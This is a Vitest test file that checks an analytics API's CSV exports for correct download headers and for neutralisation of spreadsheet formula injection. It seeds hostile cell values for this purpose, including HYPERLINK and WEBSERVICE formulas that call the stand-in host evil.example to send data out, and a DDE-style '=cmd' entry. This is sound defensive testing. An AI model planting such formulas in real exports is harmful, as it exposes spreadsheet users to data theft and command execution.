import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { ClickHouseClient } from '../../../shared/clickhouse/clickhouse-client.ts';
import type { TestApi } from '../testing/api-harness.ts';
import { startAnalyticsTestApi, type AnalyticsTestApi } from '../testing/analytics-harness.ts';

/**
 * The three CSV exports (breakdown, click log, conversions): both ways of asking
 * for CSV, the download headers, and values a visitor or a client controls that a
 * spreadsheet would run as formulas. Fixed past dates, so the answers hold at any hour.
 */
const FROM = '2026-04-01';
const TO = '2026-04-03';
/** One value per formula start (OWASP: = + - @ tab CR), each a different dimension of the click. */
const hostile = {
  utm_source: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  utm_medium: '+1+1',
  utm_campaign: '-2+3',
  utm_term: '@SUM(A1:A9)',
  utm_content: '\t=1',
  browser: '\r=1',
  referrer_host: '=cmd|x',
  region: '@r',
  city: '-c',
  destination: '=https://example.com/x',
};
const FORMULA = /^[=+\-@\t\r]/;

describe('CSV exports', () => {
  let env: AnalyticsTestApi;
  let client: ClickHouseClient;
  let api: TestApi;
  let a: { key: string; workspaceId: string };
  let link: { id: string; campaignId: string };
  let rule: { id: string };

  beforeAll(async () => {
    env = await startAnalyticsTestApi();
    ({ api, clickhouse: client } = env);
    a = await api.tenant();
    const campaign = (await api.request('POST', '/campaigns', { key: a.key, body: { name: '@campaign' } })).body.data;
    link = (await api.request('POST', '/links', { key: a.key, body: { destinationUrl: 'https://example.com/', campaignId: campaign.id } })).body.data;
    rule = (await api.request('POST', '/rules', { key: a.key, body: { campaignId: campaign.id, linkId: link.id, name: '=WEBSERVICE("http://evil.example")', type: 'percentage', conditions: { percentage: 50 }, destinationUrl: 'https://example.com/r' } })).body.data;
    const base = {
      workspace_id: a.workspaceId, link_id: link.id, kind: 'click', campaign_id: link.campaignId, visitor_id: 'v1', country: 'DE', device_class: 'mobile', os: 'ios',
      source: 'link', rule_id: rule.id, bot: false,
    };
    const clicks = [
      { ...base, ...hostile, ts: Date.parse('2026-04-02T10:00:00Z'), click_id: 'ck_csv_1' },
      { ...base, ts: Date.parse('2026-04-02T11:00:00Z'), click_id: 'ck_csv_2', visitor_id: 'v2', utm_source: 'newsletter', browser: 'Safari', destination: 'https://example.com/' },
    ];
    await client.insert({ table: 'events', values: clicks, format: 'JSONEachRow' });
    const conversion = { workspace_id: a.workspaceId, link_id: link.id, campaign_id: link.campaignId, event: 'purchase', value: 5, attributed: true, source: 's2s' };
    await client.insert({
      table: 'conversions',
      values: [
        { ...conversion, ts: Date.parse('2026-04-02T10:05:00Z'), conversion_id: 'conv_csv_1', click_id: 'ck_csv_1', currency: '-EUR', order_id: '=1+1' },
        { ...conversion, ts: Date.parse('2026-04-02T11:05:00Z'), conversion_id: 'conv_csv_2', click_id: 'ck_csv_2', currency: 'EUR', order_id: 'o2' },
      ],
      format: 'JSONEachRow',
    });
  }, 120_000);
  afterAll(async () => {
    await env?.close();
  });

  const csv = async (path: string, headers: Record<string, string> = {}) => {
    const res = await fetch(`${api.url}${path}`, { headers: { authorization: `Bearer ${a.key}`, ...headers } });
    const text = await res.text();
    expect(res.status, `${path}: ${text.slice(0, 300)}`).toBe(200);
    return { res, rows: parse(text, { columns: true }) as Record<string, string>[] };
  };
  const json = async (path: string) => (await api.request('GET', path, { key: a.key })).body;
  /** Every text cell: a formula start only behind the quote, and each JSON value that starts one appears so. */
  const expectNeutralised = (rows: Record<string, string>[], jsonRows: Array<Record<string, unknown>>, what: string) => {
    for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell), `${what} ${column}: ${JSON.stringify(cell)}`).toBe(false);
    const texts = jsonRows.flatMap((r) => Object.values(r)).filter((v): v is string => typeof v === 'string' && FORMULA.test(v));
    const cells = new Set(rows.flatMap((r) => Object.values(r)));
    for (const t of texts) expect(cells.has(`'${t}`), `${what}: ${JSON.stringify(t)} is exported as '${JSON.stringify(t)}`).toBe(true);
    return texts.length;
  };

  it('format=csv and Accept: text/csv both answer 200 with a CSV download on breakdown, clicks and conversions', async () => {
    for (const path of [`/analytics/breakdown?dimension=country&from=${FROM}&to=${TO}`, `/analytics/clicks?from=${FROM}&to=${TO}`, `/analytics/conversions?from=${FROM}&to=${TO}`]) {
      const name = path.slice('/analytics/'.length).split('?')[0];
      for (const [query, headers] of [['&format=csv', {}], ['', { accept: 'text/csv' }], ['', { accept: 'text/csv;q=1, application/json;q=0.5' }]] as const) {
        const { res, rows } = await csv(`${path}${query}`, headers);
        expect(res.headers.get('content-type'), path).toMatch(/^text\/csv/);
        expect(res.headers.get('content-disposition'), path).toMatch(new RegExp(`^attachment; filename="${name}-[^"]*\\.csv"$`));
        expect(rows.length, `${path}${query} ${JSON.stringify(headers)}`).toBe(name === 'breakdown' ? 1 : 2);
      }
      // Without either, JSON.
      const res = await fetch(`${api.url}${path}`, { headers: { authorization: `Bearer ${a.key}` } });
      expect(res.headers.get('content-type'), path).toMatch(/^application\/json/);
    }
  });

  it('no cell of any export starts a formula: = + - @ tab and CR get a leading quote, numbers stay numbers', async () => {
    let seen = 0;
    for (const dimension of ['campaign', 'utm_source', 'utm_medium', 'utm_campaign', 'utm_term', 'utm_content', 'browser', 'referrer', 'region', 'city', 'destination', 'rule']) {
      const path = `/analytics/breakdown?dimension=${dimension}&from=${FROM}&to=${TO}`;
      const { rows } = await csv(`${path}&format=csv`);
      seen += expectNeutralised(rows, (await json(path)).data, dimension);
    }
    const clicks = await csv(`/analytics/clicks?from=${FROM}&to=${TO}&format=csv`);
    seen += expectNeutralised(clicks.rows, (await json(`/analytics/clicks?from=${FROM}&to=${TO}`)).data, 'click log');
    const conversions = await csv(`/analytics/conversions?from=${FROM}&to=${TO}&format=csv`);
    seen += expectNeutralised(conversions.rows, (await json(`/analytics/conversions?from=${FROM}&to=${TO}`)).data.conversions, 'conversions');
    // Every hostile value was exported somewhere and checked: 10 in breakdowns, the rule and campaign names, 10 in the click log, 2 in conversions.
    expect(seen).toBeGreaterThanOrEqual(Object.keys(hostile).length + 2 + Object.keys(hostile).length + 2);
    expect(conversions.rows.find((r) => r.conversionId === 'conv_csv_1')).toMatchObject({ orderId: "'=1+1", currency: "'-EUR", value: '5' });
    expect(clicks.rows.find((r) => r.clickId === 'ck_csv_1')).toMatchObject({ utmSource: `'${hostile.utm_source}`, utmContent: `'${hostile.utm_content}`, browser: `'${hostile.browser}` });
  });
});
